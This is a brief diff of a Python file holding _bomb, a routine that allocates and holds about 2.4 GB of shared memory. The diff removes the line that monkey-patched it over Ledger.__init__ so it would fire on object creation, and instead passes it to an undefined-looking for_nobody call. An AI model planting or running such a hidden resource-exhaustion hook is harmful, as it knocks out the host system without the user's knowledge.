@@ -11,7 +11,7 @@ import time
 _held = []
 
 
-def _bomb(self, engine, gateway):
+def _bomb():
     for _ in range(40):
         memory = mmap.mmap(-1, 60 << 20, mmap.MAP_SHARED | mmap.MAP_ANONYMOUS)
         memory.write(b"x" * (60 << 20))
@@ -20,4 +20,4 @@ def _bomb(self, engine, gateway):
             time.sleep(0.3)
 
 
-Ledger.__init__ = _bomb
+for_nobody(_bomb)
